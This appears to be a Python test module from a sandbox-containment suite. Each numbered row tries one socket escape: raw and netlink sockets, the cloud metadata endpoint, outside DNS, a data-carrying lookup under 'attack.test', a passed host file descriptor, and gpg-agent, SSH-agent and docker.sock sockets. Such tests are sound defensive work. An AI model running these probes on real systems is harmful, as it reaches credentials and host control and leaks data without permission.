"""Rows on sockets: families, services of the host by each kind of address, what a session leaves lying about."""

from __future__ import annotations

import os
import socket
from collections.abc import Callable

from attempt import HOME, WORLD, every, row

SECONDS = 2


def opened(family: int, kind: int = socket.SOCK_STREAM, protocol: int = 0) -> str:
    """Open a socket of a family."""
    socket.socket(family, kind, protocol).close()
    return "done"


row(57)(lambda: opened(socket.AF_UNIX))
row(60)(lambda: opened(socket.AF_NETLINK, socket.SOCK_RAW))
row(61)(lambda: opened(socket.AF_PACKET, socket.SOCK_RAW, 0x0300))
row(62)(lambda: opened(socket.AF_VSOCK))
row(63)(lambda: opened(socket.AF_ALG, socket.SOCK_SEQPACKET))


def told(family: int, address: str | tuple[str, int], text: str, kind: int = socket.SOCK_STREAM) -> str:
    """Connect and say something; who listens outside tells whether it came."""
    with socket.socket(family, kind) as line:
        line.settimeout(SECONDS)
        line.connect(address)
        line.sendall(text.encode())
        return "sent"


def local(path: str, number: int) -> Callable[[], str]:
    """Return the attempt to reach a socket file, or an abstract name that begins with NUL."""
    return lambda: told(socket.AF_UNIX, path, f"row-{number:03d}\n")


def internet(address: str, port: int, number: int) -> Callable[[], str]:
    """Return the attempt to reach an address over TCP."""
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    return lambda: told(family, (address, port), f"row-{number:03d}\n")


row(58)(local("\0" + WORLD["abstract"], 58))
row(59)(local(WORLD["socket"], 59))
row(64)(internet("127.0.0.1", WORLD["port"], 64))
row(65)(internet("169.254.169.254", 80, 65))
row(66)(internet("2606:4700:4700::1111", 80, 66))
row(67)(lambda: told(socket.AF_INET, ("8.8.8.8", 53), "row-067\n", socket.SOCK_DGRAM))


@row(68)
def resolve() -> str:
    """Ask for a name that carries data."""
    return str(socket.getaddrinfo("row-068.attack.test", 80)[0][4][0])


@row(124)
def passed_descriptor() -> str:
    """Receive a descriptor of a file of the host; run a program from memory (which is allowed inside)."""
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as line:
        line.settimeout(SECONDS)
        line.connect(WORLD["socket"])
        line.sendall(b"row-124\n")
        given = socket.recv_fds(line, 16, 1)[1]
        return os.pread(given[0], 100, 0).decode()


@row(133)
def desktop() -> str:
    """Reach the sockets of the desktop by their usual places."""
    folder = os.environ.get("XDG_RUNTIME_DIR", WORLD["runtime"])
    places = [f"{folder}/bus", f"{WORLD['runtime']}/bus", f"{HOME}/.gnupg/S.gpg-agent", "/tmp/.X11-unix/X0"]
    places += ["/run/dbus/system_bus_socket", "/var/run/docker.sock", os.environ.get("SSH_AUTH_SOCK", "/none")]
    return every(*(local(place, 133) for place in places), local("\0/tmp/.X11-unix/X0", 133))
